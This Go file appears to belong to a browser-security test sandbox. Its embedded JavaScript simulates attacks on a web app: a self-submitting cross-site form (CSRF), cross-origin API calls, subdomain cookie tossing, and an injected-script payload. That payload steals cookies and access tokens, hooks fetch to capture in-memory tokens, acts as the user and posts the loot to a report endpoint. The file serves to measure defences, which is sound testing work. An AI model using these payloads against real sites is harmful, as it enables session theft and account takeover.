package labs

// The scripts of the sandbox's pages. Each is the body of an async function of t, the trial's facts.

// beginScript signs the user in at the app, as its own forms do, and goes on.
const beginScript = `
localStorage.clear();
if (t.reach && !await fetch(t.reach, {mode: 'no-cors'}).then(() => true, () => false)) {
  await fetch(t.missed, {method: 'POST'});
  t.next = t.after;
}
if (t.keeps === 'basic') {
  await new Promise((done) => {
    const ask = new XMLHttpRequest();
    ask.open('GET', t.basic, true, t.json.username, t.json.password);
    ask.onloadend = done;
    ask.send();
  });
}
if (t.signsIn && t.keeps === 'storage') {
  const answer = await fetch('/api/' + t.mode + '/login', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(t.json)});
  localStorage.setItem('access_token', (await answer.json()).access_token);
} else if (t.signsIn) {
  await fetch('/' + t.mode + '/login', {method: 'POST', body: new URLSearchParams(t.form), redirect: 'manual'});
}
location.replace(t.next);
`

// formScript is another site's page whose form writes a note in the app: the visitor need not press anything.
const formScript = `
const form = document.createElement('form');
form.method = 'post';
form.action = t.target;
const field = document.createElement('input');
field.type = 'hidden';
field.name = 'body';
field.value = t.note;
form.append(field);
document.body.append(form);
form.submit();
`

// askScript is another site's page that calls the app's API, and then its own server in the same way.
const askScript = `
const init = {credentials: t.credentials ? 'include' : 'omit'};
if (t.token) init.headers = {Authorization: 'Bearer ' + t.token};
const read = await fetch(t.target, init).then((answer) => answer.status, () => 0);
await fetch(t.hear, init);
await fetch(t.probe, {credentials: 'include', mode: 'no-cors'}).catch(() => {});
await fetch(t.here, {method: 'POST', credentials: 'omit', body: JSON.stringify({read})});
location.replace(t.next);
`

// injectedScript is what an attacker got into a page of the app: it reads what it can, acts as the user, and carries
// off what it found. Where the page keeps a token in memory, it listens to how the page fetches it.
const injectedScript = `
const real = window.fetch;
let heard;
const memory = new Promise((found) => { heard = found; });
window.injected = (async () => {
  const loot = {ran: true, cookies: document.cookie, token: localStorage.getItem('access_token') ?? ''};
  if (t.keeps === 'memory') {
    window.fetch = async (...asked) => {
      const answer = await real(...asked);
      answer.clone().json().then((body) => { if (body.access_token) heard(body.access_token); }, () => {});
      return answer;
    };
    loot.token = await Promise.race([memory, new Promise((late) => setTimeout(late, 5000, ''))]);
  }
  const headers = {'Content-Type': 'application/json'};
  if (loot.token) headers.Authorization = 'Bearer ' + loot.token;
  await real(t.target, {method: 'POST', headers, body: JSON.stringify({body: t.note})});
  await real(t.report, {method: 'POST', credentials: 'omit', body: JSON.stringify(loot)});
})();
`

// goOnScript is of the app's own site, so that any policy lets it run: it leads the browser on from a page of the app.
const goOnScript = `
if (t.does === 'script') {
  await window.injected;
} else {
  if (document.readyState !== 'complete') await new Promise((loaded) => addEventListener('load', loaded, {once: true}));
  const home = () => document.querySelector('body[data-page=home]');
  for (let i = 0; i < 50 && !home(); i++) await new Promise((later) => setTimeout(later, 100));
  const styled = [...document.styleSheets].some((sheet) => sheet.href && !sheet.href.startsWith(location.origin));
  await fetch(t.here, {method: 'POST', body: JSON.stringify({shown: Boolean(home()) && styled})});
}
location.replace(t.next);
`

// linkScript is another site's page with a link to the app that is followed.
const linkScript = `location.assign(t.target);`

// siblingScript signs in at one subdomain of the app and asks it there; then it asks the app at another, or has that one
// set a cookie and asks the first again. Reports go to the first, which can clear every cookie of the trial.
const siblingScript = `
const ask = () => fetch('/api/' + t.mode + '/me').then((answer) => answer.status, () => 0);
const own = new URLSearchParams(location.search).get('own');
if (own === null) {
  await fetch('/' + t.mode + '/login', {method: 'POST', body: new URLSearchParams(t.form), redirect: 'manual'});
  location.replace(t.other + '/sibling?own=' + await ask());
} else if (!t.first && t.does === 'tossing') {
  await fetch(t.other + '/toss');
  location.replace(t.home + '/sibling?own=' + own);
} else {
  const read = await ask();
  await fetch(t.home + '/report', {method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({read, own: Number(own)})});
  location.replace(t.next);
}
`

// sizesScript finds the largest cookie that the browser keeps, the largest token that the app accepts in a header, and
// the largest header that the server reads.
const sizesScript = `
const largest = async (low, high, works) => {
  while (high - low > 1) {
    const middle = (low + high) >> 1;
    if (await works(middle)) low = middle; else high = middle;
  }
  return low;
};
const bearer = (value) => fetch(t.target, {headers: {Authorization: 'Bearer ' + value}}).then((answer) => answer.status, () => 0);
const cookie = await largest(100, 16384, async (n) => {
  await fetch(t.base + '/cookie?bytes=' + n);
  return await (await fetch(t.base + '/cookie-kept')).text() === String(n);
});
let accepted = 0;
await largest(400, 16384, async (n) => {
  const token = await (await fetch(t.base + '/token?bytes=' + n)).text();
  const fits = await bearer(token) === 200;
  if (fits) accepted = token.length;
  return fits;
});
const header = await largest(1024, 1 << 18, async (n) => ![0, 431].includes(await bearer('x'.repeat(n - 7))));
await fetch(t.here, {method: 'POST', body: JSON.stringify({cookie, accepted, header})});
location.replace(t.next);
`

// onScript leads on.
const onScript = `location.replace(t.next);`
